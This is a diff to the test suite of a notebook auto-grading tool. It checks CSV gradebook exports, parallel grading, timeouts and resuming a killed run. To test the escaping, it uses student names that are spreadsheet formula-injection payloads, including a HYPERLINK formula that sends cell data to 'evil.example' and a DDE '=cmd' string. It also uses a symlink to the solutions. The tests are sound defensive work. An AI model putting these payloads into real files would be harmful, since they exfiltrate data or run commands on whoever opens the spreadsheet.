@@ -48,13 +48,6 @@ def _csv(path: Path) -> list[dict]:
         return list(csv.DictReader(f))
 
 
-def _grade(*argv: str, cwd: Path) -> subprocess.CompletedProcess:
-    out = subprocess.run([sys.executable, "-m", "fmlearn.grading", *argv], cwd=cwd, env=_clean_env(),
-                         capture_output=True, text=True, timeout=300)
-    assert out.returncode == 0, out.stdout[-2000:] + out.stderr[-2000:]
-    return out
-
-
 # --- who handed in what ------------------------------------------------------------------------------------------
 
 def test_the_student_comes_from_the_file_name_or_nbgrader_folders(tmp_path):
@@ -136,6 +129,8 @@ def test_canvas_moodle_and_nbgrader_read_the_gradebook_with_their_own_columns(tm
     with pytest.raises(ValueError, match=f"student 'bob' has two submissions for {EX01}: {EX01}_bob.ipynb and "
                        "late.ipynb"):
         write_table([*ROWS, Row(_result("late.ipynb", EX01, [0], [10]), "bob", EX01)], tmp_path / "c.csv", "canvas")
+    write_table([Row(_result("x.ipynb", EX01, [1], [10]), "\r=cmd", EX01)], tmp_path / "cr.csv", "canvas")
+    assert _csv(tmp_path / "cr.csv")[0]["Student"] == "'\r=cmd"  # a carriage return first: neutralised too
     with pytest.raises(ValueError, match="out: the moodle format is a .csv file, got '.*grades.json'"):
         write_table(ROWS, tmp_path / "grades.json", "moodle")
 
@@ -145,24 +140,26 @@ def _cells(path: Path) -> list[str]:
         return [c for row in csv.reader(f) for c in row]
 
 
-def test_no_cell_of_any_gradebook_is_a_formula_and_links_are_not_followed(tmp_path):
+def test_no_cell_of_any_gradebook_is_a_formula_and_links_are_not_followed(tmp_path, monkeypatch, capsys):
     """Students named like formulas; a symbolic link to the solutions (graded, it would score full points)."""
-    hostile = ["=HYPERLINK(\"evil.example?\"&A1,\"10\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
-    students = ["'" + s for s in hostile[:-1]] + ["?x"]  # a control character is shown as ?
+    hostile = ["=HYPERLINK(\"evil.example?\"&A1,\"10\")", "+1", "-2+3", "@SUM(A1)", "\tx"]
+    students = ["'" + s for s in hostile]
     sub = tmp_path / "submitted"
     _scans(sub, [f"{EX01}_{s}.ipynb" for s in hostile] + [f"=cmd|' -C calc'!A0_{EX01}.ipynb"])
     (sub / f"{EX01}_mallory.ipynb").symlink_to(ROOT / "solutions" / f"{EX01}.py")
-    _grade("submitted", "--out", "grades.csv", cwd=tmp_path)
+    monkeypatch.chdir(tmp_path)
+    assert main(["submitted", "--out", "grades.csv"]) == 0
     for fmt in ("canvas", "moodle", "nbgrader"):
-        out = _grade("merge", "grades.csv", "--format", fmt, "--out", f"{fmt}.csv", cwd=tmp_path)
-        assert "not in the" in out.stderr and "=cmd" in out.stderr  # its name holds no student id: said
+        capsys.readouterr()
+        assert main(["merge", "grades.csv", "--format", fmt, "--out", f"{fmt}.csv"]) == 0
+        assert f"not in the {fmt} gradebook: submitted/=cmd" in capsys.readouterr().err  # no student id: said
     table = _csv(tmp_path / "grades.csv")
     assert {r["student"] for r in table} == {*students, "", "mallory"}
     mallory = next(r for r in table if r["student"] == "mallory")
     assert (mallory["points"], mallory["max_points"]) == ("0", "10") and "symbolic link" in mallory["note"]
     for name in ("grades.csv", "canvas.csv", "moodle.csv", "nbgrader.csv"):
         cells = _cells(tmp_path / name)
-        assert len(cells) >= 16
+        assert len(cells) >= 2 * (len(hostile) + 2)  # a header and a row per student at least
         assert not [c for c in cells if c.startswith(FORMULA)], name
     canvas = _csv(tmp_path / "canvas.csv")
     assert sorted(r["Student"] for r in canvas) == sorted([*students, "mallory"])
@@ -171,20 +168,21 @@ def test_no_cell_of_any_gradebook_is_a_formula_and_links_are_not_followed(tmp_pa
 
 # --- a class graded at once, a run that is killed, slices merged -----------------------------------------------
 
-def test_a_class_is_graded_in_parallel_and_a_stubborn_submission_costs_only_its_time(tmp_path):
+def test_a_class_is_graded_in_parallel_and_a_stubborn_submission_costs_only_its_time(tmp_path, monkeypatch,
+                                                                                      capsys):
     sub = tmp_path / "submitted"
     _save(_answered(EX01), sub / f"{EX01}_alice.ipynb")
     _save(_wrong(), sub / f"{EX01}_bob.ipynb")
     _save(_blank(EX01), sub / f"{EX01}_carol.ipynb")
     _save(_prepend(_blank(EX01), "schedule", "while True:\n    pass"), sub / f"{EX01}_dave.ipynb")
+    monkeypatch.chdir(tmp_path)
     started = time.monotonic()
-    out = _grade("submitted", "--jobs", "2", "--timeout", "4", "--notebook-timeout", "60", "--out", "grades.json",
-                 cwd=tmp_path)
+    assert main(["submitted", "--jobs", "2", "--timeout", "4", "--notebook-timeout", "60", "--out", "grades.json"]) == 0
     seconds = time.monotonic() - started
     rows = {r["student"]: r for r in json.loads((tmp_path / "grades.json").read_text())["submissions"]}
     assert {s: r["points"] for s, r in rows.items()} == {"alice": 10, "bob": 6, "carol": 0, "dave": 0}
     assert "ran past the 4 s limit of one cell" in rows["dave"]["note"]
-    summary = [line for line in out.stderr.splitlines() if line.startswith("class: ")]
+    summary = [line for line in capsys.readouterr().err.splitlines() if line.startswith("class: ")]
     assert summary and "4 submissions graded in" in summary[0] and "per minute with 2 jobs" in summary[0]
     assert seconds < 120, seconds
 
@@ -219,18 +217,18 @@ def test_a_worker_that_hangs_is_stopped_and_the_others_are_graded(tmp_path):
     freezer = threading.Thread(target=_freeze_a_grading_worker, args=(found,))
     freezer.start()
     started = time.monotonic()
-    grade_entries(class_entries([sub], EXERCISES), lambda e, r: results.update({e.student: r}),
+    grade_entries(class_entries([sub], EXERCISES), lambda e, r, fault: results.update({e.student: (r, fault)}),
                   exercises=EXERCISES, limits={"timeout": 60, "notebook_timeout": 3}, grace=2)
     freezer.join()
     assert time.monotonic() - started < 60
     assert found and not found["worker"].is_running() and not found["sandbox"].is_running()
-    assert (results["dave"].points, results["dave"].max_points) == (0, 10)
-    assert results["dave"].reason == ("the grader stopped it: no result 5 s after it started (its time limit is "
-                                      "3 s)")
-    assert "not a readable notebook" in results["erin"].reason
+    (dave, fault), (erin, erin_fault) = results["dave"], results["erin"]
+    assert (dave.points, dave.max_points, fault) == (0, 10, True)  # the grader's fault: a rerun tries it again
+    assert dave.reason == "the grader stopped it: no result 5 s after it started (its time limit is 3 s)"
+    assert "not a readable notebook" in erin.reason and not erin_fault
 
 
-def test_a_killed_run_keeps_its_rows_and_a_rerun_resumes(tmp_path):
+def test_a_killed_run_keeps_its_rows_and_a_rerun_resumes(tmp_path, monkeypatch, capsys):
     """The first submission is refused at once; the second loops. Killed (SIGKILL) once the first row is in the
     journal, the run has lost nothing that was graded: the rerun grades only the second."""
     sub = tmp_path / "submitted"
@@ -252,11 +250,27 @@ def test_a_killed_run_keeps_its_rows_and_a_rerun_resumes(tmp_path):
     assert sum('"row"' in line for line in lines) == 1 and f"{EX01}_alice" in lines[-1]
     assert not (tmp_path / "grades.csv").exists()
     (sub / f"{EX01}_bob.ipynb").write_bytes(SCAN)  # changed since: graded again (at once, this time)
-    out = _grade("submitted", "--out", "grades.csv", cwd=tmp_path)
-    assert "1 of 2 submissions already graded, 1 to grade" in out.stderr
-    assert f"graded submitted/{EX01}_alice" not in out.stderr and f"graded submitted/{EX01}_bob" in out.stderr
+    monkeypatch.chdir(tmp_path)
+    capsys.readouterr()
+    assert main(["submitted", "--out", "grades.csv"]) == 0
+    err = capsys.readouterr().err
+    assert "1 of 2 submissions already graded, 1 to grade\n" in err
+    assert f"graded submitted/{EX01}_alice" not in err and f"graded submitted/{EX01}_bob" in err
     assert [r["student"] for r in _csv(tmp_path / "grades.csv")] == ["alice", "bob"]
     assert sum(f"{EX01}_alice" in line and '"row"' in line for line in journal.read_text().splitlines()) == 1
+    (sub / f"{EX01}_alice.ipynb").write_bytes(SCAN + b"resubmitted")  # a file that changed is graded again
+    assert main(["submitted", "--out", "grades.csv"]) == 0
+    err = capsys.readouterr().err
+    assert "1 of 2 submissions already graded, 1 to grade (1 changed since)" in err
+    assert f"graded submitted/{EX01}_alice" in err and f"graded submitted/{EX01}_bob" not in err
+    lines = journal.read_text().splitlines(keepends=True)  # bob's row, as if a worker had died on it
+    bob = max(i for i, line in enumerate(lines) if f"{EX01}_bob" in line and '"row"' in line)
+    lines[bob] = lines[bob].replace('"fault": false', '"fault": true')
+    journal.write_text("".join(lines))
+    assert main(["submitted", "--out", "grades.csv"]) == 0
+    err = capsys.readouterr().err
+    assert "1 of 2 submissions already graded, 1 to grade (1 the grader failed on)" in err
+    assert f"graded submitted/{EX01}_bob" in err and f"graded submitted/{EX01}_alice" not in err
 
 
 def test_slices_graded_apart_merge_into_one_gradebook_and_bad_sets_are_refused(tmp_path, monkeypatch, capsys):
